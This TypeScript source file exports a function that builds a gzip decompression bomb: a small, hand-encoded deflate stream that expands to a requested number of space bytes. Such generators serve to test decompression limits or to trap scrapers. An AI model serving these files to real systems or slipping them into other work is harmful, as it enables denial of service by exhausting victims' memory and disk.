/** What the bomb unpacks to, over and over. */
const blank = 0x20;

/** Longest repetition that deflate can name. */
const longestMatch = 258;

/**
 * Makes a gzip file of blanks that is about 160 times smaller than what it unpacks to.
 *
 * @param size - Bytes that it unpacks to at least.
 * @returns The file.
 */
export function gzipBomb(size: number): Uint8Array {
  const matches = Math.ceil(size / longestMatch);
  const unpacked = 1 + matches * longestMatch;
  const bits = new BitWriter(Math.ceil((matches * 13) / 8) + 32);
  for (const byte of [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]) bits.number(byte, 8);
  bits.number(0b011, 3);
  bits.code(0x30 + blank, 8);
  for (let match = 0; match < matches; match += 1) bits.code(0b1100_0101_00000, 13);
  bits.code(0, 7);
  bits.align();
  bits.number(checksumOfBlanks(unpacked), 32);
  bits.number(unpacked, 32);
  return bits.bytes();
}

/** Writes bits from the lowest of each byte on. */
class BitWriter {
  readonly #bytes: Uint8Array;
  #position = 0;

  constructor(capacity: number) {
    this.#bytes = new Uint8Array(capacity);
  }

  /** Writes a number, its lowest bit first. */
  number(value: number, length: number): void {
    for (let bit = 0; bit < length; bit += 1) this.#bit((value >>> bit) & 1);
  }

  /** Writes a Huffman code, its highest bit first. */
  code(value: number, length: number): void {
    for (let bit = length - 1; bit >= 0; bit -= 1) this.#bit((value >>> bit) & 1);
  }

  align(): void {
    this.#position = Math.ceil(this.#position / 8) * 8;
  }

  bytes(): Uint8Array {
    return this.#bytes.slice(0, this.#position / 8);
  }

  #bit(bit: number): void {
    const index = this.#position >>> 3;
    this.#bytes[index] = (this.#bytes[index] ?? 0) | (bit << (this.#position & 7));
    this.#position += 1;
  }
}

/** CRC-32 of so many blanks. */
function checksumOfBlanks(count: number): number {
  const table = Uint32Array.from({ length: 256 }, (_, index) => {
    let value = index;
    for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? (value >>> 1) ^ 0xedb8_8320 : value >>> 1;
    return value;
  });
  let crc = 0xffff_ffff;
  for (let index = 0; index < count; index += 1) crc = (crc >>> 8) ^ (table[(crc ^ blank) & 0xff] ?? 0);
  return (crc ^ 0xffff_ffff) >>> 0;
}
